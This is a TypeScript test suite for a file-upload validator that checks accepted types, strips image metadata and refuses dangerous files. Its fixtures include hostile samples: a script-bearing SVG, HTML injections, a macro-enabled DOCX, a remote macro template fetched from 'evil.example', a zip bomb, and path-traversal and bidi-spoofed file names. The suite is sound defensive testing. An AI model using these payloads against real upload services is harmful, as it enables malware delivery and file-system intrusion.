import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ZipFile } from 'yazl'
import { type FileStore, openFileStore } from './file-store.ts'
import { readStored, receiveUpload } from './receive-upload.ts'
import { safeFileName } from './safe-file-name.ts'
import { UPLOAD_LIMITS } from './upload-check.ts'

let folder: string
let files: FileStore

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'doi-thoai-upload-'))
  files = openFileStore(folder)
})
afterAll(() => rm(folder, { recursive: true, force: true }))

const receive = (name: string, content: Buffer) => receiveUpload(files, { field: 'file', name, content })
async function refusalOf(name: string, content: Buffer) {
  const outcome = await receive(name, content)
  return outcome.ok ? 'accepted' : outcome.refusal
}

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const MACRO = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const contentTypes = (main: string, more = '') =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`

async function zipOf(entries: Record<string, string | Buffer>): Promise<Buffer> {
  const zip = new ZipFile()
  for (const [name, content] of Object.entries(entries))
    zip.addBuffer(Buffer.from(content), name, { compressionLevel: 1 })
  zip.end()
  return buffer(zip.outputStream as Readable)
}
const docx = (entries: Record<string, string | Buffer> = {}, types = contentTypes(WORD)) =>
  zipOf({ '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...entries })

describe('what is taken', () => {
  test('PDF, DOCX, text and MP3, known by content whatever they are called', async () => {
    const pdf = await receive('quyết định.exe', Buffer.from('%PDF-1.7\nhello\n%%EOF'))
    expect(pdf).toMatchObject({ ok: true, upload: { name: 'quyết định.pdf', mediaType: 'application/pdf', size: 20 } })
    expect(await receive('Báo cáo.docx', await docx())).toMatchObject({ ok: true, upload: { name: 'Báo cáo.docx' } })
    expect(await receive('ghi chú.md', Buffer.from('Ý kiến của Nhân dân\n'))).toMatchObject({
      ok: true,
      upload: { name: 'ghi chú.txt', mediaType: 'text/plain' },
    })
    const list = { field: 'sheet', name: 'danh sách.CSV', content: Buffer.from('STT;Nội dung\n') }
    expect(await receiveUpload(files, list)).toMatchObject({ ok: true, upload: { name: 'danh sách.txt' } })
    expect(await receiveUpload(files, list, ['csv'])).toMatchObject({ ok: true, upload: { name: 'danh sách.csv' } })
    const mp3 = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413)])
    expect(await receive('bản tin', mp3)).toMatchObject({ ok: true, upload: { name: 'bản tin.mp3' } })
  })

  test('a picture is written again, upright, without place and camera', async () => {
    const original = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#884422' } })
      .withExif({ IFD0: { Make: 'SecretCamera' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '20/1 43/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer()
    expect((await sharp(original).metadata()).exif).toBeDefined()
    const outcome = await receive('ảnh.jpeg', original)
    if (!outcome.ok) throw new Error(outcome.refusal)
    const kept = await readStored(files, outcome.upload.sha256)
    const facts = await sharp(kept).metadata()
    expect(facts).toMatchObject({ format: 'jpeg', width: 40, height: 60 })
    expect(facts.exif).toBeUndefined()
    expect(kept.includes('SecretCamera')).toBe(false)
    expect(outcome.upload.name).toBe('ảnh.jpg')
  })
})

describe('what is refused', () => {
  test.each([
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['SVG with a head', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['HTML', '<!doctype html><html><body>x</body></html>'],
    ['HTML behind white space', '\n\n  <HTML><script>1</script>'],
    ['HTML inside text', 'hello <iframe src=x></iframe>'],
    ['a program', 'MZ\u0090\u0000\u0003\u0000\u0000\u0000'],
    ['a script with control characters', 'abc\u0001\u0002'],
  ])('%s', async (_, text) => {
    expect(await refusalOf('a.pdf', Buffer.from(text))).toBe('fileKind')
  })

  test('nothing, a plain ZIP, text that is no UTF-8', async () => {
    expect(await refusalOf('a.txt', Buffer.alloc(0))).toBe('fileEmpty')
    const heic = Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)])
    expect(await refusalOf('anh.jpg', heic)).toBe('fileHeic')
    expect(await refusalOf('a.docx', await zipOf({ 'a.txt': 'x' }))).toBe('fileKind')
    expect(await refusalOf('a.txt', Buffer.from([0x41, 0xff, 0xfe, 0x41]))).toBe('fileKind')
  })

  test('documents with macros, under whatever name', async () => {
    expect(await refusalOf('a.docx', await docx({ 'word/vbaProject.bin': 'x' }))).toBe('fileMacro')
    expect(await refusalOf('a.docx', await docx({}, contentTypes(MACRO)))).toBe('fileMacro')
    const hidden = contentTypes(
      WORD,
      '<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    expect(await refusalOf('a.docx', await docx({ 'word/data.bin': 'x' }, hidden))).toBe('fileMacro')
    const template =
      '<Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/></Relationships>'
    expect(await refusalOf('a.docx', await docx({ 'word/_rels/settings.xml.rels': template }))).toBe('fileMacro')
  })

  test('a document that unpacks to more than allowed, and a broken one', async () => {
    const bomb = await docx({ 'word/media/a.bin': Buffer.alloc(UPLOAD_LIMITS.unpacked + 1) })
    expect(bomb.length).toBeLessThan(UPLOAD_LIMITS.bytes)
    expect(await refusalOf('a.docx', bomb)).toBe('fileUnpackedTooLarge')
    const broken = await docx()
    expect(await refusalOf('a.docx', broken.subarray(0, broken.length - 30))).toBe('fileUnreadable')
  })

  test('a file above the size, a broken picture, a picture of too many dots', async () => {
    const large = Buffer.alloc(UPLOAD_LIMITS.bytes + 1, 65)
    expect(await refusalOf('a.txt', large)).toBe('fileTooLarge')
    const png = await sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
      .png()
      .toBuffer()
    expect(await refusalOf('a.png', png.subarray(0, 40))).toBe('fileUnreadable')
    const wide = { create: { width: 8000, height: 8000, channels: 3 as const, background: 'white' } }
    expect(await refusalOf('a.png', await sharp(wide).png().toBuffer())).toBe('filePictureTooLarge')
  })

  test('a refused file leaves nothing on disk', async () => {
    expect(await readdir(join(folder, 'incoming'))).toEqual([])
  })
})

test('names lose paths, controls, bidi and foreign endings', () => {
  expect(safeFileName('../../etc/passwd', 'pdf')).toBe('passwd.pdf')
  expect(safeFileName('C:\\Users\\x\\Báo cáo quý.DOCX', 'docx')).toBe('Báo cáo quý.docx')
  expect(safeFileName('hoa\u202Efdp.exe', 'pdf')).toBe('hoafdp.pdf')
  expect(safeFileName('...', 'txt')).toBe('tep-dinh-kem.txt')
  expect(safeFileName('a\u0000b<c>.pdf', 'pdf')).toBe('ab c.pdf')
  expect(safeFileName('x'.repeat(500), 'pdf')).toHaveLength(120)
  expect(safeFileName('Kế hoạch số 12.KH', 'pdf')).toBe('Kế hoạch số 12.pdf')
})
